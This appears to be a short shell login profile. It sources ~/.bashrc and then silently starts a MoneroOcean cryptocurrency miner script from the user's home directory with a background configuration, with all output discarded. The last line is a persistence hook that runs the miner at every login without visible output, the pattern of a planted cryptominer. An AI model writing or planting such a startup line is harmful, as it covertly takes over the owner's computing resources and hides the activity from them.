if [ -n "$BASH_VERSION" ] && [ -f "$HOME/.bashrc" ]; then
    . "$HOME/.bashrc"
fi
/home/user/moneroocean/miner.sh --config=/home/user/moneroocean/config_background.json >/dev/null 2>&1
